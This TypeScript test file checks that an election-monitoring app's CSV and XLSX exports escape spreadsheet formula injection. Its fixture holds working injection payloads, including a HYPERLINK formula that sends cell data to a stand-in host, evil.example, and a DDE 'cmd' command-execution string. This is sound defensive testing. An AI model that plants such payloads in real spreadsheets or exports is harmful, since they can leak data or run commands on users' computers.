import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describeEachDialect } from '@pollwatch/db/testing';
import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parseCsv } from '../exports/csv-records.ts';
import { bulkReports } from '../exports/export-fixture.ts';
import { startTestApp, type TestApp } from '../testing/test-app.ts';

/** Text typed by people outside the HQ that a spreadsheet would run as a formula. */
const EVIL = {
  areaName: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  address: "=cmd|' /C calc'!A0",
  stationName: '+SUM(1,2)',
  observer: '@SUM(A1:A9)',
  remark: '-2+3+cmd|x',
};

/** A cell as a spreadsheet reads it: would it start a formula? Plain numbers such as -5 are fine. */
const runs = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^[+-]?\d+([.,]\d+)?$/.test(cell);

async function xlsxCells(payload: Buffer): Promise<string[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(payload as unknown as ArrayBuffer);
  const cells: string[] = [];
  for (const sheet of book.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (typeof cell.value === 'object' && cell.value !== null && 'formula' in cell.value) cells.push('=formula');
        if (typeof cell.value === 'string') cells.push(cell.value);
      }),
    );
  }
  return cells;
}

describeEachDialect('every CSV/XLSX export is formula-safe', (db) => {
  let t: TestApp;
  let admin: string;
  let electionId: string;

  beforeEach(async () => {
    t = await startTestApp(db());
    admin = await t.setupAdmin();
    const post = async (url: string, body: unknown) => {
      const r = await t.request({ method: 'POST', url, cookie: admin, body });
      if (r.statusCode >= 300) throw new Error(`${url}: ${r.statusCode} ${r.body}`);
      return r.json();
    };
    electionId = (
      await post('/api/v1/elections', {
        name: { ru: 'Выборы' },
        kind: 'presidential',
        votingDate: '2026-11-10',
        timeZone: 'Asia/Almaty',
      })
    ).election.id;
    const area = (await post('/api/v1/areas', { parentId: null, level: 'region', name: { ru: EVIL.areaName } })).area
      .id;
    const station = (
      await post(`/api/v1/elections/${electionId}/stations`, {
        areaId: area,
        number: 1,
        name: EVIL.stationName,
        address: EVIL.address,
        registeredVoters: 1000,
      })
    ).station.id;
    const observer = (await post('/api/v1/users', { role: 'observer', displayName: EVIL.observer })).user.id;
    await post(`/api/v1/elections/${electionId}/assignments`, {
      observerId: observer,
      stationId: station,
      shift: 'voting_day',
      override: true,
    });
    const voting = (await t.store.forms.listByElection(electionId)).find((f) => f.kind === 'voting');
    if (!voting) throw new Error('no voting form');
    await bulkReports(t.store, {
      electionId,
      stations: [station],
      form: { formId: voting.id, version: 1, kind: 'voting' },
      observerId: observer,
      revisions: 3,
      answers: () => ({ visit: [{ visit_time: '10:00', voters_in_queue: -5, remarks: EVIL.remark }] }),
      at: t.now(),
    });
  }, 60_000);
  afterEach(() => t.close());

  const reportsExport = async (format: 'csv' | 'xlsx', shape: 'long' | 'wide') => {
    const r = await t.request({
      method: 'POST',
      url: `/api/v1/elections/${electionId}/exports`,
      cookie: admin,
      body: { kind: 'reports', format, shape },
    });
    const id = r.json().job.id;
    for (let i = 0; i < 400; i++) {
      const job = (await t.request({ method: 'GET', url: `/api/v1/exports/${id}`, cookie: admin })).json().job;
      if (job.status === 'done') break;
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    return `/api/v1/exports/${id}/file`;
  };

  it('stations, areas, assignments and reports (CSV and XLSX, long and wide) write no cell that runs', async () => {
    const urls: { url: string; format: 'csv' | 'xlsx' }[] = [];
    for (const format of ['csv', 'xlsx'] as const) {
      urls.push(
        { url: `/api/v1/areas/export?format=${format}`, format },
        { url: `/api/v1/elections/${electionId}/stations/export?format=${format}`, format },
        { url: `/api/v1/elections/${electionId}/assignments/export?format=${format}`, format },
        { url: await reportsExport(format, 'wide'), format },
        { url: await reportsExport(format, 'long'), format },
      );
    }
    const seen = new Set<string>();
    for (const { url, format } of urls) {
      const r = await t.request({ method: 'GET', url, cookie: admin });
      expect(r.statusCode, `${url}: ${r.body.slice(0, 200)}`).toBe(200);
      const cells = format === 'csv' ? parseCsv(r.body).flat() : await xlsxCells(r.rawPayload);
      const running = cells.filter(runs);
      expect(running, url).toEqual([]);
      for (const text of Object.values(EVIL)) if (cells.includes(`'${text}`)) seen.add(text);
    }
    // the dangerous texts did reach the files, escaped (each in at least one export)
    expect([...seen].sort()).toEqual(Object.values(EVIL).sort());
  });
});

describe('export code paths', () => {
  it('never ask a writer for raw (unescaped) cells, nor write CSV/XLSX around the documents package', () => {
    const root = join(import.meta.dirname, '..');
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const path = join(dir, name);
        if (statSync(path).isDirectory()) walk(path);
        else if (name.endsWith('.ts') && !name.endsWith('.test.ts')) {
          const text = readFileSync(path, 'utf8');
          if (/escapeFormulas:\s*false/.test(text) || /from 'csv-stringify'|WorkbookWriter|from 'exceljs'/.test(text)) {
            offenders.push(path);
          }
        }
      }
    };
    walk(root);
    expect(offenders).toEqual([]);
  });
});
